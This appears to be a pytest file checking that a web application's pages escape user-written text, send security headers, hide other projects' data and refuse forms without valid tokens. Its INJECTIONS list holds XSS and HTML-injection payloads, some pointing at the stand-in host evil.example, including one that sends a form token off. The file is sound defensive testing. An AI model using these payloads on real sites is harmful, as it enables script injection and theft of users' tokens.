"""Nothing that somebody wrote runs in a page, and nobody sees or changes what is not theirs."""

import html.parser
import re
from collections.abc import Iterator

import httpx
import pytest
from sqlalchemy import func, select, update
from starlette.applications import Starlette

from elluminate_server.pages.dispatching import dispatcher
from elluminate_server.pages.rendering import POLICY
from elluminate_server.pages.visits import PAGES, Page
from elluminate_server.store.engine import Store
from elluminate_server.store.tables import (
    AuditEvent,
    Base,
    Experiment,
    Label,
    LLMConfig,
    LogLine,
    Project,
    Response,
    Task,
)
from tests.server.pages.conftest import Browser
from tests.server.pages.filling import fill

pytestmark = pytest.mark.anyio

dispatcher()  # registers them

INJECTIONS = [
    "<script>alert(1)</script>",
    "</script><script>alert(1)</script>",
    '"><script>alert(1)</script>',
    "'><img src=x onerror=alert(1)>",
    '" onmouseover="alert(1)" x="',
    "' autofocus onfocus='alert(1)",
    '" hx-get="/logout" hx-trigger="load" x="',
    '"><div hx-on:click="alert(1)" hx-get="https://evil.example">',
    "<svg onload=alert(1)>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<math><mtext><style><img src=x onerror=alert(1)></style></mtext></math>",
    "</title><script>alert(1)</script>",
    "</textarea><script>alert(1)</script>",
    "</style><script>alert(1)</script>",
    "<style>@import 'https://evil.example/x.css'</style>",
    '" style="background:url(https://evil.example/x)" x="',
    "<iframe src=javascript:alert(1)>",
    "<a href=javascript:alert(1)>x</a>",
    "javascript:alert(1)",
    "<base href=https://evil.example/>",
    "<meta http-equiv=refresh content='0;url=https://evil.example/'>",
    "<form action=https://evil.example/><input name=token>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<object data=https://evil.example/x>",
    "<!-- --><script>alert(1)</script><!--",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "{{ 7 * 7 }}{% raw %}{{ visit.of.token }}",
    "&lt;script&gt;alert(1)&lt;/script&gt;&#x3c;script&#x3e;",
    "\u202eevil\u202c\u2066x\u2069\u200f",
    "a\x00b\x1bc\x7fd\x85e",
    "<ſcript>alert(1)</ſcript>",
    "%3Cscript%3Ealert(1)%3C/script%3E",
]


class Elements(html.parser.HTMLParser):
    """All elements of a page with their attributes, and its text."""

    def __init__(self, page: str) -> None:
        super().__init__()
        self.found: list[tuple[str, dict[str, str | None]]] = []
        self.texts: list[str] = []
        self.feed(page)

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.found.append((tag, dict(attrs)))

    def handle_data(self, data: str) -> None:
        self.texts.append(data)


def check_harmless(page: str) -> None:
    """Nothing inline, nothing from elsewhere, only elements and attributes that templates have."""
    for tag, attributes in Elements(page).found:
        assert tag not in {"style", "iframe", "object", "base", "math", "img", "embed", "animate"}
        for name, value in attributes.items():
            assert not name.startswith("on"), (tag, name)
            assert name != "style", tag
            if name in ("href", "src", "action", "hx-get"):
                assert value is not None
                assert value.startswith(("/projects/", "/static/", "/log", "/", "#")), value
                assert not value.startswith("//"), value
        if tag == "script":
            assert str(attributes.get("src")).startswith("/static/")
    assert "<script" not in re.sub(r'<script src="/static/[^"]*" defer></script>', "", page)
    assert not re.search("[\x00-\x08\x0b-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069]", page)


async def hostile(store: Store, text: str) -> int:
    """An experiment in which everything that somebody writes is that text."""
    braces = text.replace("{", "{{").replace("}", "}}")
    experiment_id = await fill(
        store,
        rows=2,
        name=text[:150],
        criteria=[text, f"{text} too"],
        topic=braces,
        answer=braces,
        reasoning=braces,
    )
    async with store.write() as session:
        config = LLMConfig(project_id=1, name=text, llm_model_name=text, system_message=text)
        session.add(config)
        task = Task(
            id="b" * 32, project_id=1, experiment_id=experiment_id, kind="experiment", status="SUCCESS"
        )
        session.add(task)
        await session.flush()
        session.add(LogLine(task_id=task.id, line=text))
        await session.execute(update(Experiment).values(description=text, llm_config_id=config.id))
        await session.execute(update(Project).values(name=text))
        await session.execute(
            update(Response).values(
                annotation=text,
                termination_reason=text,
                trajectory={
                    "steps": [
                        {
                            "step_id": 1,
                            "source": "agent",
                            "message": text,
                            "reasoning_content": text,
                            "tool_calls": [
                                {"tool_call_id": "1", "function_name": text, "arguments": {text: text}}
                            ],
                            "observation": {"results": [{"content": text}]},
                        }
                    ]
                },
            )
        )
    return experiment_id


@pytest.mark.parametrize("text", INJECTIONS, ids=range(len(INJECTIONS)))
async def test_what_somebody_wrote_is_shown_as_text(browser: Browser, store: Store, text: str) -> None:
    if "\x00" in text and not store.is_sqlite:
        pytest.skip("PostgreSQL stores no NUL")
    experiment_id = await hostile(store, text)
    shown = re.sub("[\x00-\x08\x0b-\x1f\x7f-\x9f\u200e\u200f\u202a-\u202e\u2066-\u2069]", "\ufffd", text)
    paths = [
        "/projects/1/experiments",
        f"/projects/1/experiments/{experiment_id}",
        "/projects/1/responses/1",
        f"/projects/1/label?experiment={experiment_id}",
    ]
    for path in paths:
        page = await browser.see(path)
        check_harmless(page)
        assert shown in "".join(Elements(page).texts), path
    for path in ("/projects/1/experiments", f"/projects/1/experiments/{experiment_id}"):
        check_harmless(await browser.see(path, q=text, template=text, status=text, criterion=text, sort=text))
    answer = await browser.http.get("/projects/1/nothing" + "/x", params={"q": text})
    check_harmless(answer.text)
    check_harmless((await browser.http.get("/projects/1/label", params={"experiment": text})).text)
    check_harmless((await browser.http.get("/login", params={"next": text, "code": text})).text)


def places(page: Page, project_id: int) -> str:
    path = page.path.replace("{project_id:int}", str(project_id))
    return re.sub(r"\{\w+:int\}", "1", path)


OF_INPUTS = ("collections", "prompt_templates", "criterion_sets", "llm_configs", "api_keys", "queue", "start")
PAGES_AND_FORMS = [
    pytest.param(one, id=f"{one.method} {one.path}")
    for one in PAGES
    if not one.handler.__module__.endswith(OF_INPUTS)
]
"""Those of experiments and what came of them, whose forms send the same fields; `test_every_page` is about all."""


async def everything(store: Store) -> dict[str, int]:
    """How many rows each table has, but for what is noted of requests."""
    async with store.read() as session:
        return {
            name: await session.scalar(select(func.count()).select_from(table)) or 0
            for name, table in Base.metadata.tables.items()
            if table is not AuditEvent.__table__
        }


@pytest.mark.parametrize("page", PAGES_AND_FORMS)
async def test_another_project_s_ids_are_not_found(
    foreign: Browser, browser: Browser, store: Store, page: Page
) -> None:
    await fill(store, rows=2)
    before = await everything(store)
    found = re.search(r'name="token" value="(\w+)"', (await foreign.http.get("/projects/2/experiments")).text)
    assert found is not None
    for project_id in (1, 2):
        path = places(page, project_id)
        if path == "/projects/2/experiments":
            continue
        if page.method == "GET":
            answer = await foreign.http.get(path, params={"experiment": "1", "ids": ["1", "2"]})
        else:
            fields = {"token": found[1], "criterion_id": "1", "value": "YES"}
            answer = await foreign.http.post(path, data=fields)
        assert answer.status_code == 404, (path, answer.text)
        assert answer.headers["content-security-policy"] == POLICY
    assert await everything(store) == before


@pytest.mark.parametrize("page", [one for one in PAGES_AND_FORMS if "POST" in str(one.id)])
async def test_a_form_without_its_token_changes_nothing(
    browser: Browser, foreign: Browser, store: Store, page: Page
) -> None:
    await fill(store, rows=2)
    before = await everything(store)
    path, fields = places(page, 1), {"criterion_id": "1", "value": "YES"}
    found = re.search(r'name="token" value="(\w+)"', (await foreign.http.get("/projects/2/experiments")).text)
    assert found is not None
    for token in ("", "0" * 64, found[1], "ключ"):
        answer = await browser.http.post(path, data={"token": token, **fields})
        assert answer.status_code == 403, token
    assert (await browser.http.post(path, data=fields)).status_code == 403
    assert (await browser.http.post(path, json={"token": await browser.token(), **fields})).status_code == 400
    assert (await browser.http.get(path)).status_code == 405
    assert await everything(store) == before


@pytest.mark.parametrize("page", [one for one in PAGES_AND_FORMS if "POST" in str(one.id)])
async def test_a_reader_changes_nothing(reader: Browser, store: Store, page: Page) -> None:
    await fill(store, rows=2)
    before = await everything(store)
    answer = await reader.send(places(page, 1), criterion_id="1", value="YES")
    assert answer.status_code == 403
    assert await everything(store) == before
    async with store.read() as session:
        line = (await session.scalars(select(AuditEvent).order_by(AuditEvent.id.desc()).limit(1))).one()
    assert page.operation is not None
    assert (line.operation, line.status, line.key_name) == (page.operation.id, 403, "looks")


async def test_a_reader_is_shown_no_form_that_changes_anything(reader: Browser, store: Store) -> None:
    experiment_id = await fill(store, rows=120)
    for path in (
        f"/projects/1/experiments/{experiment_id}",
        "/projects/1/responses/1",
        f"/projects/1/label?experiment={experiment_id}",
    ):
        page = await reader.see(path)
        assert re.findall(r'method="post" action="([^"]*)"', page) == ["/logout"]


def every_route() -> Iterator[tuple[str, str]]:
    yield from (("GET", path) for path in ("/", "/login", "/login?code=x", "/logout", "/static/pages.css"))
    yield from (("GET", path) for path in ("/static/nothing", "/projects", "/projects/1/nothing"))
    yield from (("POST", path) for path in ("/login", "/logout", "/", "/projects/1/nothing"))
    yield from (("PUT", path) for path in ("/login", "/projects/1/experiments"))
    yield from ((one.method, places(one, 1)) for one in PAGES)


@pytest.mark.parametrize(("method", "path"), list(every_route()))
async def test_every_answer_has_the_policy(
    app: Starlette, browser: Browser, stranger: httpx.AsyncClient, store: Store, method: str, path: str
) -> None:
    await fill(store, rows=2)
    for http in (stranger, browser.http):
        answer = await http.request(method, path, data={} if method == "POST" else None)
        assert answer.headers["content-security-policy"] == POLICY, answer
        assert answer.headers["x-content-type-options"] == "nosniff"
        assert answer.headers["referrer-policy"] == "same-origin"
        if not path.startswith("/static/pages"):
            assert answer.headers["cache-control"] == "no-store"
        assert answer.status_code < 500
    assert app.state.in_hand == set()


async def test_two_people_label_at_the_same_time(browser: Browser, reader: Browser, store: Store) -> None:
    await fill(store, rows=2)
    sent = await browser.send("/projects/1/responses/1/label", value="NO", criterion_id="1")
    assert sent.status_code == 303
    async with store.read() as session:
        assert (await session.scalars(select(Label.value))).all() == ["NO"]
    assert "says" in await reader.see("/projects/1/responses/1")
